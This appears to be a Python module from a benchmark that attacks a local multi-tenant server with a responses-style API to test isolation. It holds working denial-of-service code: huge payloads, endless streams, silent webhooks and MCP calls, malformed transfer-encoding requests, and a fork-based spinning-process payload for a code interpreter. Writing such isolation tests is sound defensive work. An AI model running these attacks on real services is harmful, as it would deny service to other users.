"""`python -m bench.attacks.attackers METHOD PORT KEY SITE`: attacks a server until it is ended.

`SITE` is the port of a `bench.attacks.backend` of the attacker's own. The program prints a line
when the attack has begun. It runs at a low priority, since an attacker does not share the server's
CPUs: what B notices is then the server's work, and not the attacker's.
"""

import asyncio
import json
import os
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any

import aiohttp

from bench.attacks.resolver import HUNG

MEGABYTE = 1024 * 1024

NICE = 10
"""How much lower than the server's the attacker's priority is."""

TINY_ITEMS = 19_990
"""As many as a response may have that a turn still follows (`max_items`, `max_history_items`)."""

LARGE_ITEMS = 6
"""Of 10 MB, as many as a conversation may have (`max_conversation_bytes`)."""

LIGATURES = "\ufdfa" * 5_000_000
"""15 MB and 5 M tokens, the most that a vector store takes. Each letter has 18 letters in the
index.
"""

PROCESSES = 58
SESSIONS = """
import os, time
begun, begin = os.pipe()
for _ in range({count}):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        os.close(begin)
        os.read(begun, 1)
        while True:
            pass
os.close(begin)
time.sleep({seconds})
"""
"""Code in so many processes that spin, each in a session if it can have one. All begin together,
and go on when the call has ended."""

_HEAD = b"POST /v1/responses HTTP/1.1\r\nhost: x\r\n"
_UPGRADE = (
    b"connection: Upgrade, HTTP2-Settings\r\nupgrade: h2c\r\nhttp2-settings: "
    b"AAMAAABkAARAAAAAAAIAAAAA\r\n"
)
_BODY = b'19\r\n{"model":"m","input":"x"}\r\n0\r\n\r\n'
MALFORMED = (
    _HEAD + _UPGRADE + b"transfer-encoding: xchunked\r\n\r\n" + _BODY,
    _HEAD + b"transfer-encoding: gzip, chunked\r\n\r\n" + _BODY,
    _HEAD + b"transfer-encoding: bogus\r\ntransfer-encoding: chunked\r\n\r\n" + _BODY,
)


class Attacker:
    """A client with the key of tenant A. An attack returns when its load is on; what it began goes
    on.
    """

    def __init__(self, http: aiohttp.ClientSession, port: int, site: int) -> None:
        self._http = http
        self._port = port
        self._site = f"http://127.0.0.1:{site}"
        self._tasks: set[asyncio.Task[Any]] = set()

    async def conversation(self) -> None:
        """A conversation of the largest items, which two readers list again and again."""
        created = await self._send_request("/v1/conversations", {})
        path = f"/v1/conversations/{created['id']}/items"
        item = {"type": "message", "role": "user", "content": "x" * 10 * MEGABYTE}
        for _ in range(LARGE_ITEMS):
            await self._send_request(path, {"items": [item]})
        self._repeat(2, lambda: self._get(f"{path}?limit=100"))

    async def tiny_items(self) -> None:
        """A stored response of tiny items, whose tokens one client counts again and again; another
        lists the items.
        """
        items = [{"role": "user", "content": "x"}] * TINY_ITEMS
        created = await self._send_request("/v1/responses", {"model": "m", "input": items})
        body = {"model": "m", "input": "x", "previous_response_id": created["id"]}
        self._repeat(1, lambda: self._send_request("/v1/responses/input_tokens", body))
        self._repeat(1, lambda: self._get(f"/v1/responses/{created['id']}/input_items?limit=1"))

    async def sockets(self) -> None:
        """14 WebSockets, each with a running response and six messages of 4 MB that wait."""
        for _ in range(14):
            socket = await self._http.ws_connect("/v1/responses", compress=15, max_msg_size=0)
            await socket.send_str(_message("hang"))
            for _ in range(6):
                self._begin(socket.send_str(_message("hang" + " " * 4 * MEGABYTE)))
        await asyncio.sleep(1)

    async def rejections(self) -> None:
        """Requests that the backend rejects with a 429 that is about each of them alone."""
        self._repeat(
            4, lambda: self._send_request("/v1/responses", {"model": "m", "input": "reject"})
        )

    async def webhooks(self) -> None:
        """300 endpoints, or as many as are accepted, that never answer; background responses notify
        each of them.
        """
        body = {"url": f"{self._site}/hook/silent", "event_types": ["response.completed"]}
        for number in range(300):
            await self._send_request("/v1/webhook_endpoints", {**body, "name": f"n{number}"})
        self._repeat(
            2,
            lambda: self._send_request(
                "/v1/responses", {"model": "m", "input": "x", "background": True}
            ),
        )

    async def names(self) -> None:
        """MCP servers whose names no DNS server ever resolves, 60 at a time."""
        for number in range(60):
            self._begin(self._use_tool(f"http://a{number}{HUNG}/mcp"))
        await asyncio.sleep(1)

    async def pages(self) -> None:
        """Pages of 4.9 MB, twelve in each of four requests at a time, each page a new one."""
        number = 0

        async def read() -> None:
            nonlocal number
            number += 12
            urls = " ".join(
                f"{self._site}/page/large/{page}" for page in range(number, number + 12)
            )
            await self._send_request(
                "/v1/responses", {"model": "m", "input": urls, "tools": [{"type": "web_search"}]}
            )

        self._repeat(4, read)
        await asyncio.sleep(1)

    async def jobs(self) -> None:
        """Background responses that take 45 s, as many as are accepted."""
        body = {"model": "m", "input": "slow", "background": True}
        await asyncio.gather(*(self._send_request("/v1/responses", body) for _ in range(80)))
        self._repeat(4, lambda: self._send_request("/v1/responses", body))

    async def malformed(self) -> None:
        """Bytes that are no request, on a new connection each time."""
        for stated in MALFORMED:
            self._repeat(2, lambda stated=stated: self._emit(stated))  # type: ignore[misc]

    async def tools(self) -> None:
        """256 calls of MCP servers that never return."""
        for number in range(256):
            self._begin(self._use_tool(f"{self._site}/mcp/silent?number={number}"))
        await asyncio.sleep(1)

    async def running(self) -> None:
        """400 streams that never end."""
        for _ in range(400):
            self._begin(
                self._send_request("/v1/responses", {"model": "m", "input": "hang", "stream": True})
            )
        await asyncio.sleep(1)

    async def document(self) -> None:
        """The document whose index costs most, in vector stores: one is ingested after the
        other.
        """
        form = aiohttp.FormData({"purpose": "assistants"})
        form.add_field("file", LIGATURES.encode(), filename="ligatures.txt")
        async with self._http.post("/v1/files", data=form) as reply:
            created = await reply.json()
        for _ in range(4):
            await self._send_request(
                "/v1/vector_stores", {"name": "x", "file_ids": [created["id"]]}
            )
        await asyncio.sleep(2)

    async def spinning(self) -> None:
        """Code that spins in sessions, while its call runs."""
        self._begin(self._run_code(SESSIONS.format(count=PROCESSES, seconds=1000)))
        await asyncio.sleep(2)

    async def spun(self) -> None:
        """Code that would go on spinning after its call."""
        await self._run_code(SESSIONS.format(count=PROCESSES, seconds=0.5))

    async def _run_code(self, code: str) -> None:
        tool = {"type": "code_interpreter", "container": {"type": "auto"}}
        await self._send_request("/v1/responses", {"model": "m", "input": code, "tools": [tool]})

    def _begin(self, work: Awaitable[Any]) -> None:
        self._tasks.add(asyncio.ensure_future(work))

    def _repeat(self, count: int, act: Callable[[], Awaitable[Any]]) -> None:
        async def again() -> None:
            while True:
                await act()
                await asyncio.sleep(0.01)

        for _ in range(count):
            self._begin(again())

    async def _use_tool(self, url: str) -> None:
        tool = {
            "type": "mcp",
            "server_label": "silent",
            "require_approval": "never",
            "server_url": url,
        }
        await self._send_request("/v1/responses", {"model": "m", "input": "x", "tools": [tool]})

    async def _send_request(self, path: str, body: dict[str, Any]) -> dict[str, Any]:
        """POST; return the reply, whatever it is."""
        async with self._http.post(path, json=body) as reply:
            return dict(await reply.json(content_type=None))

    async def _get(self, path: str) -> None:
        async with self._http.get(path) as reply:
            async for _ in reply.content.iter_any():
                """What comes is not kept."""

    async def _emit(self, data: bytes) -> None:
        """Send bytes, and read until the server closes the connection."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
        with suppress(ConnectionError):
            writer.write(data)
            await reader.read()
        writer.close()


def _message(text: str) -> str:
    return json.dumps({"type": "response.create", "model": "m", "input": text, "store": False})


async def main(method: str, port: int, key: str, site: int) -> None:
    """Attack until the process is ended."""
    os.nice(NICE)
    headers = {"authorization": f"Bearer {key}"}
    connector = aiohttp.TCPConnector(limit=0)
    timeout = aiohttp.ClientTimeout(total=None)
    url = f"http://127.0.0.1:{port}"
    async with aiohttp.ClientSession(
        url, headers=headers, connector=connector, timeout=timeout
    ) as http:
        await getattr(Attacker(http, port, site), method)()
        print("begun", flush=True)
        await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])))
